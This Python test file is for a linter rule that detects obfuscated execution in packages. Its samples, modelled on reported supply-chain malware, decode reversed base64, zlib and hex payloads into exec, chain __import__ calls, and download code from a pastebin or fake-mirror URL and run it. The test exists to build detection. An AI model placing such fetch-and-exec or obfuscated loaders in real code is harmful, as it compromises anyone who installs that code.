"""BOT5 round 10: the general causes of what the round-10 set (tests/bot5_round10_corpus.py)
missed, each with positives and look-alike negatives, and the set's figures."""
from __future__ import annotations

import base64
import zlib

import pytest

from botlint.engine import lint_source

from helpers import lint_project, settings

_STAGE = b"import os\nprint(os.getcwd())\n"


def found(src, path="pkg/mod.py"):
    return sorted((f.line, f.code) for f in lint_source(src.encode(), path, settings(["BOT5"])))


def codes(src, path="pkg/mod.py"):
    return {code for _line, code in found(src, path)}


# -- 1. payloads run through the module's own helpers, __import__ chains and joined fragments ----

HELPER_PAYLOADS = {
    # aiocpa (ReversingLabs 2024-11): a lambda undoes the layers
    "lambda_decoder": 'import base64, zlib\n_ = lambda s: zlib.decompress(base64.b64decode(s[::-1]))\n'
                      f'exec((_)({base64.b64encode(zlib.compress(_STAGE)).decode()[::-1]!r}))\n',
    # hex fragments joined in a loader function
    "function_return_joined_hex": f'_P = ["{_STAGE.hex()[:20]}", "{_STAGE.hex()[20:]}"]\n'
                                  'def _load():\n    return bytes.fromhex("".join(_P)).decode()\n'
                                  'try:\n    exec(_load())\nexcept Exception:\n    pass\n',
    # W4SP (Checkmarx 2022-11): every module reached through __import__
    "dunder_import_chain": "__import__('builtins').exec(__import__('builtins').compile(__import__('base64')"
                           f".b64decode('{base64.b64encode(_STAGE).decode()}'), '<string>', 'exec'))\n",
    # pastebin stage behind a helper and __builtins__.__dict__
    "download_helper_builtins_dict": 'import urllib.request\n'
                                     'def _pull():\n    return urllib.request.urlopen("https://pastebin.com/raw/x").read()\n'
                                     'def init():\n    __builtins__.__dict__["ex" + "ec"](_pull())\n',
    # Phylum 2023: a downloaded code object made callable
    "function_type_of_marshal": 'import marshal, types, urllib.request\n'
                                'blob = urllib.request.urlopen("https://cdn-pypi-mirror.com/s.bin").read()\n'
                                'types.FunctionType(marshal.loads(blob), globals())()\n',
}


@pytest.mark.parametrize("name", sorted(HELPER_PAYLOADS))
def test_payloads_through_helpers_are_found(name):
    assert "BOT501" in codes(HELPER_PAYLOADS[name])


HELPER_LOOKALIKES = {
    "helper_returns_a_formula": 'def _expr():\n    return "a + b"\nvalue = eval(_expr(), {"__builtins__": {}}, {"a": 1, "b": 2})\n',
    "helper_reads_local_file": 'def _src():\n    return open("pkg/version.py").read()\nabout = {}\nexec(_src(), about)\n',
    "joined_words_not_run": 'import base64\n_P = ["aGVs", "bG8="]\ntoken = base64.b64decode("".join(_P))\nprint(len(token))\n',
    "import_module_of_a_plugin": 'import importlib\ndef load(name):\n    return importlib.import_module("strategies." + name)\n',
}


@pytest.mark.parametrize("name", sorted(HELPER_LOOKALIKES))
def test_helper_lookalikes_are_clean(name):
    assert found(HELPER_LOOKALIKES[name]) == []
